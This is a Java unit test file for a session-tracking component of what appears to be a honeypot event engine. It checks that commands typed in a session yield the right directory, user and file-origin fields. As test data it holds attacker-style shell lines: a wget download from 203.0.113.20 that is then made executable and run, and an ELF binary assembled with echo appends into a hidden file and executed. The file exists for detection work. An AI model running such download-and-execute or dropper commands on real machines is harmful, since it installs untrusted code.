package org.decnet.engine.derive;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class SessionMemoryTest {
  private final SessionMemory memory = new SessionMemory(new StatementDeriver());
  private long clock;

  @Test
  void theDirectoryOfOneLineIsThatOfTheNext() {
    type("s:1", "cd /tmp");
    Event run = last(type("s:1", "./a"));

    assertThat(run.text(Field.CURRENT_DIRECTORY)).isEqualTo("/tmp");
    assertThat(run.text(Field.IMAGE)).isEqualTo("/tmp/a");
    assertThat(last(type("s:2", "./a")).text(Field.IMAGE)).isEqualTo("/root/a");
  }

  @Test
  void aFileFetchedInOneLineIsKnownWhenALaterOneRunsIt() {
    type("s:1", "cd /var/tmp; wget http://203.0.113.20/kit");
    type("s:1", "chmod +x kit");
    Event run = last(type("s:1", "/var/tmp/kit -q"));

    assertThat(run.text(Field.IMAGE_ORIGIN)).isEqualTo("downloaded");
    assertThat(run.flag(Field.IMAGE_MADE_EXECUTABLE)).isTrue();
  }

  @Test
  void aFileWrittenPieceByPieceIsWritten() {
    type("s:1", "echo -ne '\\x7f\\x45' >> .d");
    type("s:1", "echo -ne '\\x4c\\x46' >> .d");

    assertThat(last(type("s:1", "./.d")).text(Field.IMAGE_ORIGIN)).isEqualTo("written");
  }

  @Test
  void suAndSudoChangeWhoTypesUntilExit() {
    type("s:1", "su - kim");
    assertThat(userOf("whoami")).isEqualTo("kim");
    assertThat(last(type("s:1", "pwd")).text(Field.CURRENT_DIRECTORY)).isEqualTo("/home/kim");
    type("s:1", "sudo -i");
    assertThat(userOf("whoami")).isEqualTo("root");
    type("s:1", "exit");
    assertThat(userOf("whoami")).isEqualTo("kim");
    type("s:1", "cd /opt; sudo su");
    assertThat(userOf("whoami")).isEqualTo("root");
    assertThat(last(type("s:1", "pwd")).text(Field.CURRENT_DIRECTORY)).isEqualTo("/opt");
  }

  @Test
  void suForOneCommandChangesNothingAfterwards() {
    type("s:1", "su kim -c id");
    type("s:1", "echo x | su lee");
    type("s:1", "sudo id");

    assertThat(userOf("id")).isNull();
  }

  @Test
  void whoLoggedInTypes() {
    memory.derive(login("s:1", "kim", "success"));
    memory.derive(login("s:2", "lee", "failure"));
    memory.derive(login("s:3", "GET / HTTP/1.1", "success"));

    assertThat(userOf("id")).isEqualTo("kim");
    assertThat(last(type("s:2", "id")).text(Field.PROCESS_USER)).isNull();
    assertThat(last(type("s:3", "id")).text(Field.PROCESS_USER)).isNull();
  }

  @Test
  void whatTheSensorSawComeInIsKnown() {
    memory.derive(file("s:1", "upload", "/tmp/up", true));
    memory.derive(file("s:1", "download", "/tmp/down", true));
    memory.derive(file("s:1", "download", "/tmp/failed", false));

    assertThat(originOf("/tmp/up")).isEqualTo("uploaded");
    assertThat(originOf("/tmp/down")).isEqualTo("downloaded");
    assertThat(originOf("/tmp/failed")).isNull();
  }

  @Test
  void aSessionEndsWithItsConnection() {
    type("s:1", "cd /tmp");
    memory.derive(event("s:1", EventKind.CONNECTION).set(Field.ACTION, "close").build());

    assertThat(last(type("s:1", "./a")).text(Field.IMAGE)).isEqualTo("/root/a");
  }

  @Test
  void aSessionEndsAfterAnHourOfSilenceAndNotBefore() {
    type("s:1", "cd /tmp");
    clock += 3599;
    assertThat(last(type("s:1", "./a")).text(Field.IMAGE)).isEqualTo("/tmp/a");
    clock += 3600;
    assertThat(last(type("s:1", "./a")).text(Field.IMAGE)).isEqualTo("/root/a");
    assertThat(memory.forgotten()).isZero();
  }

  @Test
  void theSessionThatWasQuietLongestIsForgottenFirstAndCounted() {
    SessionMemory small = new SessionMemory(new StatementDeriver(), 2, 1000);
    small.derive(command("s:1", "cd /tmp"));
    small.derive(command("s:2", "cd /tmp"));
    small.derive(command("s:1", "id"));
    small.derive(command("s:3", "cd /tmp"));

    assertThat(small.forgotten()).isEqualTo(1);
    assertThat(image(small, "s:2")).isEqualTo("/root/a");
    assertThat(image(small, "s:1")).isEqualTo("/tmp/a");
  }

  @Test
  void sessionsThatDidNothingTakeNoRoom() {
    SessionMemory small = new SessionMemory(new StatementDeriver(), 1, 1000);
    small.derive(command("s:1", "cd /tmp"));
    small.derive(command("s:2", "id"));
    small.derive(login("s:3", "kim", "failure"));

    assertThat(image(small, "s:1")).isEqualTo("/tmp/a");
    assertThat(small.forgotten()).isZero();
  }

  @Test
  void longPathsOfOneSessionPushOthersOutAndCannotGrow() {
    SessionMemory small = new SessionMemory(new StatementDeriver(), 100, 5000);
    small.derive(command("s:1", "cd /tmp"));
    for (int i = 0; i < 200; i++) {
      small.derive(command("s:2", "echo x > /tmp/" + "y".repeat(400) + i));
    }

    assertThat(small.forgotten()).isGreaterThanOrEqualTo(1);
    assertThat(image(small, "s:1")).isEqualTo("/root/a");
  }

  @Test
  void replayedEventsGiveTheSameDerivationsWhateverStandsBetween() {
    String[] lines = {
      "cd /tmp",
      "wget http://203.0.113.20/a -O b",
      "chmod 777 *",
      "./b",
      "su kim",
      "exit",
      "mv b c",
      "cp c d; ./d",
      "rm -f c",
      "cd ..; tmp/d",
      "echo x > e; sh e",
      "cat e > f && ./f"
    };
    Random random = new Random(11);
    List<String> typed = new ArrayList<>();
    for (int i = 0; i < 200; i++) {
      typed.add(lines[random.nextInt(lines.length)]);
    }
    SessionMemory alone = new SessionMemory(new StatementDeriver());
    SessionMemory mixed = new SessionMemory(new StatementDeriver());
    for (String line : typed) {
      Event command = command("s:1", line);
      mixed.derive(command("s:" + (2 + random.nextInt(50)), lines[random.nextInt(lines.length)]));
      assertThat(fields(mixed.derive(command))).isEqualTo(fields(alone.derive(command)));
    }
  }

  private static List<String> fields(Derived derived) {
    return derived.events().stream()
        .map(event ->
            event.kind().fields().stream()
                .map(field -> field + "=" + event.get(field))
                .toList()
                .toString())
        .toList();
  }

  private static String image(SessionMemory memory, String session) {
    return String.valueOf(
        memory.derive(command0(session, "./a", 0)).events().getLast().text(Field.IMAGE));
  }

  private @Nullable String userOf(String line) {
    return last(type("s:1", line)).text(Field.PROCESS_USER);
  }

  private @Nullable String originOf(String path) {
    return last(type("s:1", path)).text(Field.IMAGE_ORIGIN);
  }

  private static Event last(List<Event> events) {
    return events.stream()
        .filter(event -> event.kind() == EventKind.PROCESS)
        .reduce((first, second) -> second)
        .orElseThrow();
  }

  private List<Event> type(String session, String line) {
    return memory.derive(command(session, line)).events();
  }

  private Event command(String session, String line) {
    return command0(session, line, clock++);
  }

  private static Event command0(String session, String line, long at) {
    return builder(session, EventKind.COMMAND, at).set(Field.COMMAND_TEXT, line).build();
  }

  private Event login(String session, String user, String outcome) {
    return event(session, EventKind.AUTH_ATTEMPT)
        .set(Field.USERNAME, user)
        .set(Field.OUTCOME, outcome)
        .build();
  }

  private Event file(String session, String direction, String path, boolean succeeded) {
    return event(session, EventKind.FILE)
        .set(Field.DIRECTION, direction)
        .set(Field.ORIG_PATH, path)
        .set(Field.SUCCEEDED, succeeded)
        .build();
  }

  private Event.Builder event(String session, EventKind kind) {
    return builder(session, kind, clock++);
  }

  private static Event.Builder builder(String session, EventKind kind, long at) {
    return Event.builder(kind)
        .id(new UUID(1, at))
        .time(Instant.ofEpochSecond(at))
        .set(Field.SENSOR, "s")
        .set(Field.SOURCE, "test")
        .set(Field.SESSION_ID, session);
  }
}
